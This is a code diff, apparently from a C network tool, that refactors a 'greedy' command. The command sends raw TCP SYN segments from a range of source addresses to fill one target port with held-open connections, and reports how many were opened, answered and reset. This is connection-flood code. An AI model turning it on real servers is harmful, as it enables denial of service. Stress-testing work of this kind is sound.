@@ -42,19 +42,17 @@ struct conn {
 };
 
 static struct raw raw;
-static struct prefix sources;
-static struct prefix target;
-static uint16_t port;
+static struct attack attack;
 static struct conn *conns;
 static unsigned int opened, answered, resets, carried;
 
 static void send_segment(unsigned int i, uint8_t flags, unsigned int size)
 {
 	struct segment s = {
-		.saddr = sources.net + i % sources.size,
-		.daddr = target.net,
-		.sport = FIRST_PORT + i / sources.size,
-		.dport = port,
+		.saddr = attack.sources.net + i % attack.sources.size,
+		.daddr = attack.target.net,
+		.sport = FIRST_PORT + i / attack.sources.size,
+		.dport = attack.port,
 		.seq = conns[i].snd,
 		.ack = flags & TH_ACK ? conns[i].rcv : 0,
 		.size = size,
@@ -74,13 +72,13 @@ static void send_syn(unsigned int i, double t)
 
 static void handle(const struct segment *s, double t, double active)
 {
-	unsigned int source = s->daddr - sources.net, i;
+	unsigned int source = s->daddr - attack.sources.net, i;
 	struct conn *c;
 
-	if (s->saddr != target.net || s->sport != port ||
-	    source >= sources.size || s->dport < FIRST_PORT)
+	if (s->saddr != attack.target.net || s->sport != attack.port ||
+	    source >= attack.sources.size || s->dport < FIRST_PORT)
 		return;
-	i = (s->dport - FIRST_PORT) * sources.size + source;
+	i = (s->dport - FIRST_PORT) * attack.sources.size + source;
 	if (i >= opened)
 		return;
 	c = &conns[i];
@@ -135,15 +133,16 @@ static void look_after(double t, double active)
 	}
 }
 
-static void play(double rate, unsigned int count, double seconds, double active)
+static void play(double active)
 {
 	struct pollfd wait = { .fd = raw.fd, .events = POLLIN };
 	double start = now(), looked = start, t;
 	struct segment s;
 	int got;
 
-	while (!stopped && (t = now()) < start + seconds) {
-		while (opened < count && opened < (t - start) * rate) {
+	while (!stopped && (t = now()) < start + attack.seconds) {
+		while (opened < attack.count &&
+		       opened < (t - start) * attack.rate) {
 			conns[opened] = (struct conn){
 				.state = SYN_SENT,
 				.snd = random64(),
@@ -168,57 +167,28 @@ static void play(double rate, unsigned int count, double seconds, double active)
 
 int cmd_greedy(int argc, char **argv)
 {
-	double rate = 0, seconds = 0, active = 0;
-	const char *dev = NULL, *mac = NULL;
-	unsigned int count = 0;
+	double active = 0;
 	int opt;
 
-	while ((opt = getopt(argc, argv, "i:g:s:d:p:r:n:t:a:")) != -1) {
-		switch (opt) {
-		case 'i':
-			dev = optarg;
-			break;
-		case 'g':
-			mac = optarg;
-			break;
-		case 's':
-			sources = parse_prefix(optarg);
-			break;
-		case 'd':
-			target = parse_prefix(optarg);
-			break;
-		case 'p':
-			port = parse_number(optarg, 1, 65535);
-			break;
-		case 'r':
-			rate = parse_number(optarg, 1, 1e5);
-			break;
-		case 'n':
-			count = parse_number(optarg, 1, 1e6);
-			break;
-		case 't':
-			seconds = parse_number(optarg, 0.1, 600);
-			break;
-		case 'a':
+	while ((opt = getopt(argc, argv, ATTACK_OPTIONS "a:")) != -1) {
+		if (opt == 'a') {
 			active = parse_number(optarg, 0.1, 600);
-			break;
-		default:
+		} else if (!attack_option(&attack, opt, optarg)) {
 			fputs(usage, stderr);
 			return 2;
 		}
 	}
-	if (!dev || !mac || !sources.size || target.size != 1 || !port ||
-	    !rate || !count || !seconds)
+	if (!attack_complete(&attack) || attack.target.size != 1 || !attack.port)
 		die("greedy: something is missing\n%s", usage);
-	if (count > sources.size * PORTS)
+	if (attack.count > (uint64_t)attack.sources.size * PORTS)
 		die("greedy: so many connections need more sources");
-	conns = calloc(count, sizeof(*conns));
+	conns = calloc(attack.count, sizeof(*conns));
 	if (!conns)
 		die("no memory");
 
 	catch_signals();
-	raw_open(&raw, dev, mac);
-	play(rate, count, seconds, active);
+	raw_open(&raw, attack.dev, attack.mac);
+	play(active);
 	printf("{\"opened\": %u, \"answered\": %u, \"resets\": %u, \"carried\": %u}\n",
 	       opened, answered, resets, carried);
 	free(conns);
